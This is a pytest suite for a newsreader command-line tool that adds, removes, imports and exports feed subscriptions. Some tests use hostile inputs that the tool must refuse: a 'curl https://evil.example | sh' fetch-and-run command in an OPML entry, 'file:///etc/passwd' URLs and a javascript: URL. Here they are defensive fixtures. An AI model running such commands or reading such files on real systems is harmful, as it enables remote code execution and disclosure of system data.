"""The feed commands end to end: ``newsreader add/remove/feeds/import/export/refresh`` in a
subprocess, against a real loopback HTTP server, over the real library database."""

from __future__ import annotations

import re
from datetime import datetime

import pytest

from tests.feeds_cli_support import (
    FEED_KEYS,
    assert_clean,
    by_url,
    err_lines,
    feeds_json,
    folder,
    item,
    nr,
    open_library,
    opml,
    outline,
    rss,
)
from tests.feedserver import FeedServer, feed_server_fixture, refused_url  # noqa: F401


def test_add_subscribes_and_stores_items(feed_server):
    url = feed_server.body("/news.xml", rss("Harbour News", item("a", "Quay opens"), item("b", "Vote due")))
    p = nr("add", url)
    assert_clean(p)
    assert p.returncode == 0, p.stderr
    assert "added Harbour News (2 items)" in p.stdout
    (feed,) = feeds_json()
    assert set(feed) == FEED_KEYS
    assert feed["url"] == url
    assert feed["title"] == "Harbour News"
    assert feed["folder"] is None
    assert (feed["items"], feed["unread"]) == (2, 2)
    assert feed["error"] is None
    assert datetime.fromisoformat(feed["last_refresh"]).tzinfo is not None


def test_add_files_feeds_under_a_folder(feed_server):
    a = feed_server.body("/a.xml", rss("A", item("1", "One")))
    b = feed_server.body("/b.xml", rss("B", item("2", "Two")))
    p = nr("add", a, b, "--folder", "News/Local")
    assert p.returncode == 0, p.stderr
    assert {f["url"]: f["folder"] for f in feeds_json()} == {a: "News/Local", b: "News/Local"}


def test_add_refuses_bad_urls_one_line_each_and_keeps_the_good_one(feed_server):
    good = feed_server.body("/good.xml", rss("Good", item("g", "Fine")))
    missing = feed_server.url("/missing.xml")  # no route: 404
    broken = feed_server.body("/broken.xml", "oops", status=500, content_type="text/plain")
    page = feed_server.body(
        "/page.html",
        "<!doctype html><html><head><title>Home</title></head><body><p>Welcome</p></body></html>",
        content_type="text/html; charset=utf-8",
    )
    bad = {
        missing: "404",
        broken: "500",
        page: "web page",
        "not a url": "not a web address",
        "javascript:alert(1)": "javascript: URLs are refused",
        "file:///etc/passwd": "file: URLs are refused",
        refused_url(): "connection refused",
    }
    p = nr("add", good, *bad)
    assert_clean(p)
    assert p.returncode == 1
    lines = err_lines(p)
    assert len(lines) == len(bad), p.stderr
    for url, reason in bad.items():
        (line,) = [line for line in lines if url in line]
        assert line.startswith("newsreader: refused ")
        assert reason in line, line
    assert list(by_url()) == [good]


def test_add_refuses_a_redirect_to_a_file_url(feed_server):
    url = feed_server.redirect("/moved.xml", "file:///etc/passwd")
    p = nr("add", url)
    assert_clean(p)
    assert p.returncode == 1
    (line,) = err_lines(p)
    assert url in line and "file: URLs are refused" in line
    assert feeds_json() == []


# -- feeds --json ---------------------------------------------------------------------------


def test_feeds_json_before_any_refresh_has_null_last_refresh(tmp_path):
    f = tmp_path / "subs.opml"
    f.write_text(opml(outline("https://news.example/rss", "Example")), encoding="utf-8")
    assert nr("import", str(f)).returncode == 0
    (feed,) = feeds_json()
    assert feed == {
        "id": 1,
        "url": "https://news.example/rss",
        "title": "Example",
        "folder": None,
        "items": 0,
        "unread": 0,
        "last_refresh": None,
        "error": None,
    }


def test_feeds_without_json_is_a_table_and_empty_library_says_how_to_start(feed_server):
    p = nr("feeds")
    assert p.returncode == 0 and "newsreader add URL" in p.stdout
    url = feed_server.body("/t.xml", rss("Table [b]Feed[/b]", item("1", "One")))
    assert nr("add", url).returncode == 0
    p = nr("feeds")
    assert p.returncode == 0
    assert "Table [b]Feed[/b]" in p.stdout  # feed text is data, shown literally
    # The last refresh reads as local time to the minute: the whole ISO stamp with its offset
    # was cut to "2026-12-01T15:38:52+…" at 80 columns.
    (feed,) = feeds_json()
    local = datetime.fromisoformat(feed["last_refresh"]).astimezone().strftime("%Y-%m-%d %H:%M")
    assert local in p.stdout and "…" not in p.stdout


# -- refresh ----------------------------------------------------------------------------


def test_import_keeps_folders_and_refuses_dangerous_entries_one_line_each(tmp_path):
    f = tmp_path / "subs.opml"
    f.write_text(
        opml(
            outline("https://top.example/rss", "Top level"),
            folder(
                "News",
                outline("https://world.example/feed", "World"),
                folder("Local", outline("https://town.example/atom.xml", "Town")),
                outline("exec:curl https://evil.example | sh", "Runs a command"),
            ),
            folder("Tech", outline("file:///etc/passwd", "Local file")),
            outline("javascript:alert(1)", "Script"),
        ),
        encoding="utf-8",
    )
    p = nr("import", str(f))
    assert_clean(p)
    assert p.returncode == 1
    lines = err_lines(p)
    assert len(lines) == 3, p.stderr
    for scheme in ("exec:", "file:", "javascript:"):
        (line,) = [line for line in lines if f"{scheme} URLs are refused" in line]
        assert line.startswith("newsreader: skipped ")
    assert "imported 3 new feeds" in p.stdout
    assert {(f["url"], f["title"], f["folder"]) for f in feeds_json()} == {
        ("https://top.example/rss", "Top level", None),
        ("https://world.example/feed", "World", "News"),
        ("https://town.example/atom.xml", "Town", "News/Local"),
    }


def test_import_of_a_malformed_opml_is_one_line_and_loses_nothing(tmp_path):
    good = tmp_path / "good.opml"
    good.write_text(opml(outline("https://keep.example/rss", "Keep")), encoding="utf-8")
    assert nr("import", str(good)).returncode == 0
    before = feeds_json()

    bad = tmp_path / "bad.opml"
    bad.write_text(
        '<?xml version="1.0"?><opml version="2.0"><body><outline text="x" xmlUrl="https://a.example/">'
        "</body>",
        encoding="utf-8",
    )
    p = nr("import", str(bad))
    assert_clean(p)
    assert p.returncode == 1
    assert err_lines(p) == [f"newsreader: {bad}: not a valid OPML file: mismatched tag (line 1)"]
    assert feeds_json() == before

    absent = tmp_path / "absent.opml"
    p = nr("import", str(absent))
    assert p.returncode == 1
    assert err_lines(p) == [f"newsreader: {absent}: no such file"]
    assert feeds_json() == before


def test_export_then_import_into_a_new_home_gives_the_same_subscriptions(tmp_path, monkeypatch):
    f = tmp_path / "subs.opml"
    f.write_text(
        opml(
            outline("https://top.example/rss", "Top & <Level>"),
            folder("News", outline("https://world.example/feed", "World")),
            folder("News", folder("Local", outline("https://town.example/atom.xml", "Town"))),
        ),
        encoding="utf-8",
    )
    assert nr("import", str(f)).returncode == 0
    original = {(x["url"], x["title"], x["folder"]) for x in feeds_json()}
    assert len(original) == 3

    out = tmp_path / "exported.opml"
    p = nr("export", str(out))
    assert p.returncode == 0, p.stderr
    to_stdout = nr("export")
    assert to_stdout.returncode == 0
    undated = re.compile(r"<dateCreated>[^<]*</dateCreated>")
    assert undated.sub("", to_stdout.stdout) == undated.sub("", out.read_text(encoding="utf-8"))
    assert 'version="2.0"' in to_stdout.stdout

    monkeypatch.setenv("NEWSREADER_HOME", str(tmp_path / "second-home"))
    assert feeds_json() == []
    p = nr("import", str(out))
    assert p.returncode == 0, p.stderr
    assert {(x["url"], x["title"], x["folder"]) for x in feeds_json()} == original


def test_export_to_an_unwritable_place_is_one_line(tmp_path):
    p = nr("export", str(tmp_path / "no" / "such" / "dir" / "x.opml"))
    assert p.returncode == 1
    assert len(err_lines(p)) == 1 and "cannot write" in p.stderr


# -- remove -------------------------------------------------------------------------------


def test_remove_by_url_and_by_id(feed_server):
    a = feed_server.body("/a.xml", rss("Alpha", item("1", "One"), item("2", "Two")))
    b = feed_server.body("/b.xml", rss("Beta", item("3", "Three")))
    assert nr("add", a, b).returncode == 0

    p = nr("remove", a)
    assert p.returncode == 0, p.stderr
    assert "removed Alpha (2 items)" in p.stdout
    assert list(by_url()) == [b]

    with open_library() as library:
        feed = library.feeds.find(b)
        assert feed is not None
        remaining = [r.feed_id for r in library.articles()]
    assert remaining == [feed.id]  # Alpha's items went with it

    p = nr("remove", str(feed.id))
    assert p.returncode == 0, p.stderr
    assert "removed Beta" in p.stdout
    assert feeds_json() == []

    p = nr("remove", a)
    assert p.returncode == 1
    assert len(err_lines(p)) == 1 and "no such feed" in p.stderr


def test_remove_during_a_refresh_removes_nothing(feed_server):
    """As add and import do: one line, nothing changed, exit 1; the same command works after."""
    from tui.core.lock import RefreshLock, lock_path
    from tui.paths import database_path

    a = feed_server.body("/a.xml", rss("Alpha", item("1", "One")))
    assert nr("add", a).returncode == 0
    with RefreshLock(lock_path(database_path())):  # another newsreader refreshing this library
        p = nr("remove", a)
    assert_clean(p)
    assert p.returncode == 1 and p.stdout == ""
    (line,) = err_lines(p)
    assert "is refreshing this library" in line and line.endswith("nothing removed")
    assert list(by_url()) == [a]
    p = nr("remove", a)
    assert p.returncode == 0 and feeds_json() == []


@pytest.mark.parametrize("bad", ["999", "https://never.example/rss"])
def test_remove_of_an_unknown_feed_is_one_line(bad):
    p = nr("remove", bad)
    assert_clean(p)
    assert p.returncode == 1
    (line,) = err_lines(p)
    assert bad in line


def test_every_command_is_documented_in_help():
    p = nr("--help")
    assert p.returncode == 0
    for cmd in ("add", "remove", "feeds", "import", "export", "refresh"):
        assert cmd in p.stdout


def test_rss_helper_builds_a_feed_the_parser_reads():
    """Guards the helpers above: a typo in them would make every test vacuous."""
    from tui.core.feeds import parse_feed

    parsed = parse_feed(rss("T", item("g", "Headline")).encode())
    assert parsed.ok and parsed.title == "T"
    assert [e.id for e in parsed.entries] == ["g"]


def test_export_to_a_dash_is_to_stdout_not_a_file_named_dash(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    p = nr("export", "-")
    assert p.returncode == 0, p.stderr
    assert p.stdout.startswith("<?xml") and 'version="2.0"' in p.stdout
    assert not (tmp_path / "-").exists()
